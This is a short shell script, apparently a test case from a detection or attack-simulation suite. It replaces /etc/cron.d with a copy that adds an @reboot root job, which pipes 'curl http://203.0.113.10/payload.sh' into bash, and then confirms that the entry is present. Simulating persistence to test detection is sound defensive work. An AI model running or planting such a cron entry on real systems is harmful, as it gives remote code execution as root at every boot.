#!/bin/sh
. /opt/case/case.sh

mkdir /var/tmp/new
cp -a /etc/cron.d/. /var/tmp/new/
printf 'SHELL=/bin/bash\n@reboot root /usr/bin/curl -fsSL http://203.0.113.10/payload.sh | bash\n' >/var/tmp/new/popularity
mv /etc/cron.d /var/tmp/old 2>/dev/null
mv /var/tmp/new /etc/cron.d
grep -q payload /etc/cron.d/popularity
took_place
